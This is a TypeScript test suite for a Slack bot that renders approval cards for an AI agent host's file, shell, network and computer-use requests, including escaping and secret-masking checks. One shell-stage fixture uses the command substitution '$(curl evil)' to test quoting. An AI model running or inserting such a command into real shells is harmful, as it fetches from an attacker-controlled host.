import { describe, expect, it } from 'vitest';
import { decodeChoiceValue } from '../../../src/cards/ids.js';
import { checkMessageLimits, MAX_CARD_FALLBACK_TEXT } from '../../../src/cards/limits.js';
import { renderCard } from '../../../src/cards/renderCard.js';
import { claimQuestion } from '../../../src/domain/claimCredit.js';
import { questionDigest } from '../../../src/domain/questionDigest.js';
import type { ApprovalRecord, Phase } from '../../../src/domain/record.js';
import { cutNote } from '../../../src/relay/hostEvents/intake/fitText.js';
import {
  APPROVER,
  allText,
  blocksOfType,
  buttons,
  fileRecord,
  headerText,
  inPhase,
  NOW,
  type Resolver,
  recordsByKind,
  shellRecord,
} from '../../support/cardFixtures.js';

const render = (record: ApprovalRecord) => renderCard(record, { now: NOW });

const PHASES: Array<{ name: string; phase: Phase; by?: Resolver }> = [
  { name: 'reviewing', phase: 'reviewing' },
  { name: 'pending', phase: 'pending' },
  { name: 'deciding', phase: 'deciding' },
  { name: 'resolved by user', phase: 'resolved', by: 'user' },
  { name: 'resolved by policy', phase: 'resolved', by: 'policy' },
  { name: 'resolved by llmJudge', phase: 'resolved', by: 'llmJudge' },
  { name: 'superseded', phase: 'superseded' },
  { name: 'orphaned', phase: 'orphaned' },
];

describe('renderCard: every subject kind in every phase', () => {
  for (const [kind, base] of Object.entries(recordsByKind())) {
    for (const { name, phase, by } of PHASES) {
      it(`${kind} / ${name}`, () => {
        const card = render(inPhase(base, phase, by));
        expect(checkMessageLimits(card)).toEqual([]);
        expect(card.text.length).toBeLessThanOrEqual(MAX_CARD_FALLBACK_TEXT);
        expect(blocksOfType(card, 'header')).toHaveLength(1);
        if (phase === 'pending') {
          expect(buttons(card).map((b) => b.value)).toHaveLength(base.availableChoices.length);
        } else {
          expect(blocksOfType(card, 'actions')).toEqual([]);
        }
        expect(card).toMatchSnapshot();
      });
    }
  }
});

describe('renderCard: fileAccess (recorded round trip)', () => {
  const card = render(fileRecord());

  it('names the tool, the path and the access', () => {
    expect(headerText(card)).toBe('Approval needed: write_file');
    const text = allText(card);
    expect(text).toContain('*Tool:* `write_file`');
    expect(text).toContain('*File:* `/home/me/src/proj/Cargo.toml`');
    expect(text).toContain('*Access:* write');
    expect(card.text).toBe('Approval needed: write_file — write /home/me/src/proj/Cargo.toml');
  });

  it('pretty-prints rawArgs in a code block', () => {
    expect(allText(card)).toContain('*Arguments*\n```\n{\n  "path": "Cargo.toml"\n}\n```');
  });

  it('offers exactly the host choices, in order, with styles and a confirm on reject', () => {
    const bs = buttons(card);
    expect(bs.map((b) => b.text)).toEqual(['Allow once', 'Allow for this session', 'Reject']);
    expect(bs.map((b) => b.actionId)).toEqual(['cs_choice_0', 'cs_choice_1', 'cs_choice_2']);
    const a = fileRecord().approvalId;
    const d = questionDigest(fileRecord());
    expect(bs.map((b) => decodeChoiceValue(b.value))).toEqual([
      { s: 0, c: 'allow_once', a, d },
      { s: 0, c: 'allow_session', a, d },
      { s: 0, c: 'abort', a, d },
    ]);
    expect(bs.map((b) => b.style)).toEqual(['primary', 'primary', 'danger']);
    expect(bs[0]!.confirm).toBeUndefined();
    expect(bs[1]!.confirm).toBeUndefined();
    expect(bs[2]!.confirm).toMatchObject({
      title: { type: 'plain_text', text: 'Reject this?' },
      confirm: { type: 'plain_text', text: 'Reject' },
      deny: { type: 'plain_text', text: 'Cancel' },
      style: 'danger',
    });
  });

  it('shows each rulePreview verbatim next to the buttons', () => {
    expect(allText(card)).toContain('Allow for this session: write /home/me/src/proj/Cargo.toml');
  });

  it('gives the actions block a new block_id on every version', () => {
    const ids = (r: ApprovalRecord) => blocksOfType(render(r), 'actions').map((b) => b.block_id as string);
    expect(ids(fileRecord({ version: 3 }))[0]).toContain('3');
    expect(ids(fileRecord({ version: 3 }))).not.toEqual(ids(fileRecord({ version: 4 })));
  });

  it('styles other decisions neither primary nor danger, and denied* as danger', () => {
    const bs = buttons(
      render(
        fileRecord({
          availableChoices: [
            { choiceId: 'deny', label: 'Deny', decision: 'denied', scope: 'once' },
            {
              choiceId: 'deny_rule',
              label: 'Always deny',
              decision: 'deniedPolicyAmendment',
              scope: 'session',
            },
            { choiceId: 'later', label: 'Ask later', decision: 'snooze', scope: 'once' },
          ],
        }),
      ),
    );
    expect(bs.map((b) => b.style)).toEqual(['danger', 'danger', undefined]);
    expect(bs.map((b) => b.confirm !== undefined)).toEqual([true, true, false]);
  });

  it('says so when the host offers no choices', () => {
    const c = render(fileRecord({ availableChoices: [] }));
    expect(blocksOfType(c, 'actions')).toEqual([]);
    expect(allText(c)).toContain('offered no choices');
  });
});

describe('renderCard: shell stages', () => {
  it('at stage 1 marks stage 1 current and stage 2 open', () => {
    const card = render(shellRecord(1));
    const text = allText(card);
    expect(text).toContain('*Command*\n```\nnpm test &amp;&amp; git push\n```');
    expect(text).toContain('▶ 1/2 `npm test` ← *decide this one*');
    expect(text).toContain('○ 2/2 `git push`');
    expect(text).toContain('*Workspace:* `/srv/repo`');
    expect(text).toContain('Rule: Always allow in this workspace: npm test ...');
    expect(buttons(card).map((b) => decodeChoiceValue(b.value)?.s)).toEqual([0, 0, 0]);
    expect(card.text).toBe('Approval needed: bash — npm test &amp;&amp; git push');
  });

  it('leaves the approvalId out of a button value it would not fit in, keeping the choice', () => {
    const long = `a-${'x'.repeat(2100)}`;
    const record = fileRecord({
      approvalId: long,
      currentRequirementId: { approvalId: long, sourceIndex: 0 },
    });
    const card = render(record);
    const d = questionDigest(record);
    expect(buttons(card).map((b) => decodeChoiceValue(b.value))).toEqual([
      { s: 0, c: 'allow_once', d },
      { s: 0, c: 'allow_session', d },
      { s: 0, c: 'abort', d },
    ]);
  });

  it('at stage 2 ticks stage 1 with its resolution and marks stage 2', () => {
    const record = shellRecord(2);
    const card = render(record);
    const text = allText(card);
    expect(text).toContain('✓ 1/2 `npm test` (allowOnce)');
    expect(text).toContain('▶ 2/2 `git push` ← *decide this one*');
    expect(buttons(card).map((b) => b.text)).toEqual(['Allow once', 'Reject']);
    const d = questionDigest(record);
    expect(buttons(card).map((b) => decodeChoiceValue(b.value))).toEqual([
      { s: 1, c: 'allow_once', a: record.approvalId, d },
      { s: 1, c: 'abort', a: record.approvalId, d },
    ]);
  });

  it('names why satisfied stages were allowed', () => {
    const record = shellRecord(1);
    const stages = record.subject.stages!;
    const card = render({
      ...record,
      currentRequirementId: { ...record.currentRequirementId, sourceIndex: 3 },
      subject: {
        ...record.subject,
        stages: [
          { ...stages[0]!, resolution: { kind: 'knownSafe' } },
          { ...stages[1]!, resolution: { kind: 'policyAllow', diagnostic: 'mode allowAll' } },
          {
            ...stages[1]!,
            position: 3,
            requirementId: { ...stages[1]!.requirementId, sourceIndex: 2 },
            resolution: { kind: 'policyAmendment', argvPrefix: ['git', 'status'] },
          },
          {
            ...stages[1]!,
            position: 4,
            argv: ['$(curl evil)'],
            argvComplete: false,
            requirementId: { ...stages[1]!.requirementId, sourceIndex: 3 },
          },
        ],
      },
    });
    const text = allText(card);
    expect(text).toContain('✓ 1/2 `npm test` (knownSafe)');
    expect(text).toContain('✓ 2/2 `git push` (policyAllow: mode allowAll)');
    expect(text).toContain('✓ 3/2 `git push` (policyAmendment: `git status`)');
    // A word holding a space is quoted, as a grant writes it: one word, not two.
    expect(text).toContain('▶ 4/2 `"$(curl evil)"` ← *decide this one* _(not fully parsed)_');
  });

  it('marks no stage current once the approval is final', () => {
    for (const phase of ['resolved', 'superseded', 'orphaned'] as const) {
      expect(allText(render(inPhase(shellRecord(2), phase)))).not.toContain('▶');
    }
  });
});

describe('renderCard: other subject kinds', () => {
  const kinds = recordsByKind();

  it('network: protocol://host:port and origin', () => {
    const card = render(kinds.network!);
    expect(allText(card)).toContain('*Connects to:* `https://api.example.com:443`');
    expect(allText(card)).toContain('*Origin:* command `curl https://api.example.com/v1/items`');
    expect(card.text).toBe('Approval needed: http_fetch — https://api.example.com:443');
  });

  it('process: target', () => {
    expect(allText(render(kinds.process!))).toContain('*Process:* `node server.js (pid 4242)`');
  });

  it('unixSocket: path', () => {
    expect(allText(render(kinds.unixSocket!))).toContain('*Unix socket:* `/var/run/docker.sock`');
  });

  it('tool: tool name and title', () => {
    const text = allText(render(kinds.tool!));
    expect(text).toContain('*Tool call:* `mcp__github__create_issue`');
    expect(text).toContain('*Title:* Create a GitHub issue');
  });

  it('computerUseTakeover: page, quoted plain-text window title, steps and data rows', () => {
    const card = render(kinds.computerUseTakeover!);
    const text = allText(card);
    expect(text).toContain('*Page:* `shop.example.com`');
    expect(text).toContain('Step 1: Click "Place order"');
    expect(text).toContain('Step 2: {"kind":"type","x":10,"y":20}');
    expect(text).toContain('Step 3: Press Enter');
    expect(text).toContain('• secret: `{"mask":"ghp_…3f9a"}`');
    expect(text).toContain('• other: `{"value":"shipping address"}`');
    const title = blocksOfType(card, 'section').find((b) =>
      (b.text as { text: string }).text.startsWith('Window title'),
    );
    expect(title?.text).toEqual({
      type: 'plain_text',
      text: 'Window title: “Checkout — Example Shop”',
      emoji: false,
    });
  });

  it('cuaCardFacts are shown on any kind, with the ASCII host when it differs', () => {
    const card = render(
      fileRecord({ cuaCardFacts: { page: { host: 'bücher.example', hostAscii: 'xn--bcher-kva.example' } } }),
    );
    expect(allText(card)).toContain('*Page:* `bücher.example` (`xn--bcher-kva.example`)');
  });

  it('unknown kind: shown generically, with a note, rawArgs verbatim', () => {
    const text = allText(render(kinds.unknown!));
    expect(text).toContain('*Kind:* `quantumTunnel` — not a kind this bot knows');
    expect(text).toContain('never approved automatically');
    expect(text).toContain('*Tool name:* `teleport`');
    expect(text).toContain('"destination": "mars"');
    expect(text).toContain('*Arguments*\n```\nnot json at all\n```');
  });
});

describe('renderCard: phases', () => {
  const base = fileRecord();

  it('reviewing: says an automated reviewer has it, no buttons', () => {
    const card = render(inPhase(base, 'reviewing'));
    expect(allText(card)).toContain('An automated reviewer is looking at this');
    expect(blocksOfType(card, 'actions')).toEqual([]);
  });

  it('deciding: names who is deciding, no buttons', () => {
    const card = render(inPhase(base, 'deciding'));
    expect(allText(card)).toContain(`Being decided by <@${APPROVER}>…`);
    expect(blocksOfType(card, 'actions')).toEqual([]);
  });

  it('deciding: never puts a label the host gave the choice after it was pressed next to its person', () => {
    const pressed = inPhase(base, 'deciding');
    const claim = { ...pressed.claim!, decision: 'approved', question: claimQuestion(pressed) };
    // The question it was pressed on still stands: the label is the one pressed.
    const standing = allText(render({ ...pressed, claim }));
    expect(standing).toContain(`Being decided by <@${APPROVER}>… (Allow once)`);
    // The host asked it again in flight, that choiceId now saving a rule for good.
    const reasked: ApprovalRecord = {
      ...pressed,
      claim,
      availableChoices: [
        {
          choiceId: 'allow_once',
          label: 'Always allow',
          decision: 'approvedPolicyAmendment',
          scope: 'localPersistent',
        },
        { choiceId: 'deny', label: 'Deny', decision: 'denied', scope: 'once' },
      ],
    };
    const text = allText(render(reasked));
    expect(text).toContain(
      `Being decided by <@${APPROVER}>… (the request changed after that choice was made)`,
    );
    expect(text).not.toContain('Always allow');
    // A claim stored before the question was kept shows the label it finds, as before.
    expect(allText(render({ ...reasked, claim: pressed.claim }))).toContain(
      `Being decided by <@${APPROVER}>… (Always allow)`,
    );
  });

  it('resolved by a Slack user: decision, who, when, saved rule', () => {
    const card = render(inPhase(base, 'resolved', 'user'));
    expect(headerText(card)).toBe('Approved: write_file');
    const text = allText(card);
    expect(text).toContain('*Decision:* Approved for the rest of the session');
    expect(text).toContain(`*Decided by:* <@${APPROVER}>`);
    expect(text).toMatch(/\*When:\* <!date\^\d+\^\{date_short_pretty\} \{time\}\|2026-08-07 18:44 UTC>/);
    expect(text).toContain('*Rule saved* (for this session): write /home/me/src/proj/Cargo.toml');
  });

  it('resolved by policy', () => {
    const card = render(inPhase(base, 'resolved', 'policy'));
    expect(headerText(card)).toBe('Rejected: write_file');
    expect(allText(card)).toContain('*Decision:* Denied');
    expect(allText(card)).toContain('*Decided by:* policy');
  });

  it('resolved by the automated reviewer with an amendment', () => {
    const text = allText(render(inPhase(shellRecord(1), 'resolved', 'llmJudge')));
    expect(text).toContain('*Decided by:* automated reviewer');
    expect(text).toContain(
      '*Rule saved* (saved in this workspace): Always allow in this workspace: npm test ...',
    );
  });

  it('never says a rule was saved when the host said it was not, with or without an amendment', () => {
    const decidedAt = '2026-08-07T18:44:44.000Z';
    const resolved = (resolution: ApprovalRecord['resolution']) =>
      allText(render({ ...base, phase: 'resolved', resolution }));
    const decision = { resolvedBy: 'user', decidedAt, slackUserId: APPROVER };
    // The host's rule came with no amendment the bot could read: the failure alone.
    const bare = resolved({
      ...decision,
      decision: 'deniedPolicyAmendment',
      persistence: { status: 'failed', reason: 'read-only store' },
    });
    expect(bare).toContain('*Decision:* Denied (a rule was asked for; it was not saved)');
    expect(bare).toContain(':warning: *Rule not saved* (read-only store): the host could not save the rule.');
    expect(bare).not.toContain('a rule was saved');
    expect(
      resolved({ ...decision, decision: 'approvedPolicyAmendment', persistence: { status: 'failed' } }),
    ).toContain(':warning: *Rule not saved*: the host could not save the rule.');
    // A save the host did not say failed changes nothing.
    expect(
      resolved({ ...decision, decision: 'approvedPolicyAmendment', persistence: { status: 'succeeded' } }),
    ).not.toContain('not saved');
    // A record resolved by an earlier release keeps the failure on its amendment.
    const older = resolved({
      ...decision,
      decision: 'approvedPolicyAmendment',
      amendment: {
        durability: 'localPersistent',
        rulePreview: 'npm test',
        persistence: 'failed',
        persistenceReason: 'disk full',
      },
    });
    expect(older).toContain('*Decision:* Approved (a rule was asked for; it was not saved)');
    expect(older).toContain(':warning: *Rule not saved* (disk full): the host could not save npm test.');
  });

  it('resolved by a user on another client, with feedback, or by someone unknown', () => {
    const resolved = (resolution: ApprovalRecord['resolution']) =>
      allText(render({ ...base, phase: 'resolved', resolution }));
    const decidedAt = '2026-08-07T18:44:44.000Z';
    expect(
      resolved({ decision: 'abort', resolvedBy: 'user', decidedAt, feedback: 'use a branch' }),
    ).toContain('*Decided by:* user (another client)');
    expect(
      resolved({ decision: 'abort', resolvedBy: 'user', decidedAt, feedback: 'use a branch' }),
    ).toContain('*Feedback:* use a branch');
    expect(resolved({ decision: 'timedOut', resolvedBy: 'ops<bot>', decidedAt })).toContain(
      '*Decided by:* the agent host (“ops&lt;bot&gt;”)',
    );
    expect(resolved({ decision: 'escalated<!here>', resolvedBy: 'user', decidedAt })).toContain(
      '*Decision:* escalated&lt;!here&gt;',
    );
    expect(resolved({ decision: 'approved', resolvedBy: 'user', decidedAt: 'yesterday' })).toContain(
      '*When:* yesterday',
    );
  });

  it('a decider only the host names is the agent host’s word, quoted, defused and cut', () => {
    const resolved = (resolvedBy: string) =>
      allText(
        render({
          ...base,
          phase: 'resolved',
          resolution: { decision: 'approved', resolvedBy, decidedAt: '2026-08-07T18:44:44.000Z' },
        }),
      );
    // A name the host picks cannot pass for a person who decided.
    const forged = resolved('Alice Smith (Security on-call, via Slack)');
    expect(forged).toContain('*Decided by:* the agent host (“Alice Smith (Security on-call, via Slack)”)');
    expect(forged).not.toContain('*Decided by:* Alice');
    // Nobody is pinged, and a long name is cut with a note.
    const loud = resolved(`@here ${'x'.repeat(300)}`);
    expect(loud).toContain('*Decided by:* the agent host (“@\u200Bhere x');
    expect(loud).toMatch(/”… \d+ more characters\)/);
    expect(loud).not.toContain('x'.repeat(100));
  });

  it('headers name the final state', () => {
    expect(headerText(render(inPhase(base, 'superseded')))).toBe('Superseded: write_file');
    expect(headerText(render(inPhase(base, 'orphaned')))).toBe('Orphaned: write_file');
    expect(headerText(render(inPhase(base, 'reviewing')))).toBe('Under automated review: write_file');
    expect(headerText(render({ ...base, phase: 'resolved', resolution: undefined }))).toBe(
      'Resolved: write_file',
    );
  });

  it('superseded: own wording plus the note', () => {
    const text = allText(render(inPhase(base, 'superseded')));
    expect(text).toContain(
      'Superseded: the agent host closed this request without a decision. Nothing was decided here.',
    );
    expect(text).toContain('Re-asked as approval 0198f0ac-8888 after the host restarted.');
  });

  it('orphaned: nothing was decided', () => {
    expect(allText(render(inPhase(base, 'orphaned')))).toContain(
      'The agent host stopped and could not keep this request (non-durable host). Nothing was decided.',
    );
  });
});

describe('renderCard: badges, reasons, session', () => {
  it('shows protected write, judge escalation and subagent badges', () => {
    const card = render(
      fileRecord({
        protectedWrite: true,
        judgeEscalated: true,
        subagentOrigin: { subagentId: 'reviewer-2' },
      }),
    );
    const text = allText(card);
    expect(text).toContain('Protected write');
    expect(text).toContain('Escalated by the automated judge');
    expect(text).toContain('From a subagent* `reviewer-2`');
  });

  it('shows no badges when there is nothing to flag', () => {
    expect(allText(render(fileRecord()))).not.toContain('Protected write');
  });

  it('shows the reason and the reviewer reason', () => {
    const text = allText(
      render(fileRecord({ reason: 'Update the version', reviewerReason: 'Touches the manifest' })),
    );
    expect(text).toContain('*Reason:* Update the version');
    expect(text).toContain("*Reviewer's reason:* Touches the manifest");
  });

  it('shows the session title (or id) and the age', () => {
    expect(allText(render(shellRecord(1)))).toContain('Session: Fix the flaky test');
    const text = allText(render(fileRecord()));
    expect(text).toContain('Session: 0198f0aa-1111-7000-8000-0000000000aa');
    expect(text).toMatch(
      /Opened <!date\^\d+\^\{ago\} \(\{date_short_pretty\} \{time\}\)\|3 min ago \(2026-08-07 18:42 UTC\)>/,
    );
    // The fallback (for clients without date tokens) is the age when the card was rendered.
    expect(allText(renderCard(fileRecord(), { now: new Date('2026-08-07T21:00:00Z') }))).toContain(
      '|2 h 17 min ago (2026-08-07 18:42 UTC)>',
    );
  });
});

describe('renderCard: what intake did to the request', () => {
  it('names the parts the host sent in a form the bot does not read, which the card does not show', () => {
    const unread = { maskedSecrets: 0, truncated: false, unreadable: true };
    const one = shellRecord(1, {
      intake: { maskedSecrets: 0, truncated: false, parts: { reviewerReason: unread } },
    });
    expect(allText(render(one))).toContain(
      ":grey_question: *Not shown: the reviewer's reason, which the host sent in a form the bot does not read*",
    );
    const all = shellRecord(1, {
      intake: {
        maskedSecrets: 0,
        truncated: false,
        parts: { reason: unread, reviewerReason: unread, cuaCardFacts: unread, subagentOrigin: unread },
      },
    });
    const card = render(all);
    expect(checkMessageLimits(card)).toEqual([]);
    expect(allText(card)).toContain(
      ":grey_question: *Not shown: the reason, the reviewer's reason, the computer-use facts and which subagent asked, which the host sent in a form the bot does not read*",
    );
    expect(allText(render(shellRecord(1)))).not.toContain(':grey_question:');
  });

  const masked = shellRecord(1, {
    rawArgs: `{"command":"GITHUB_TOKEN=[masked github-token] npm test","note":"${'n'.repeat(40)}${cutNote(5_242_880)}`,
    reason: 'Authorization: Bearer [masked authorization] is needed',
    intake: {
      maskedSecrets: 2,
      truncated: true,
      stagesOmitted: 70,
      parts: {
        rawArgs: { maskedSecrets: 1, truncated: true },
        reason: { maskedSecrets: 1, truncated: false },
        subject: { maskedSecrets: 0, truncated: false, stagesOmitted: 70 },
      },
    },
  });

  it('says how many secrets were masked, that text was cut and that stages were left out', () => {
    const card = render(masked);
    expect(checkMessageLimits(card)).toEqual([]);
    const text = allText(card);
    expect(text).toContain(':closed_lock_with_key: *2 secrets in this request were masked*');
    expect(text).toContain(':scissors: *Part of this request was too long to keep and was cut*');
    expect(text).toContain(':scissors: *70 shell stages were left out*');
    // The markers read the same after escaping.
    expect(text).toContain('[masked github-token]');
    expect(text).toContain('[… cut by Countersign: 5242880 characters in all]');
    expect(card).toMatchSnapshot();
  });

  it('names one secret in the singular, and says nothing was cut when nothing was', () => {
    const text = allText(
      render(
        fileRecord({
          intake: {
            maskedSecrets: 1,
            truncated: false,
            parts: { rawArgs: { maskedSecrets: 1, truncated: false } },
          },
        }),
      ),
    );
    expect(text).toContain('*1 secret in this request was masked*');
    expect(text).not.toContain(':scissors:');
  });

  it('shows no note for a clean request, nor for a record older than intake', () => {
    for (const record of [
      fileRecord({ intake: { maskedSecrets: 0, truncated: false, parts: {} } }),
      fileRecord(),
    ]) {
      const text = allText(render(record));
      expect(text).not.toContain('masked');
      expect(text).not.toContain(':scissors:');
    }
  });
});

describe('renderCard: choices intake withheld', () => {
  it('says the host offered choices under one id and that they are not offered', () => {
    const card = render(
      fileRecord({
        availableChoices: [],
        intake: {
          maskedSecrets: 0,
          truncated: false,
          parts: { availableChoices: { maskedSecrets: 0, truncated: false, choicesWithheld: 2 } },
        },
      }),
    );
    expect(allText(card)).toContain(
      '2 choices the host offered under a shared id are not offered here: a press could not say which one it meant',
    );
  });
});
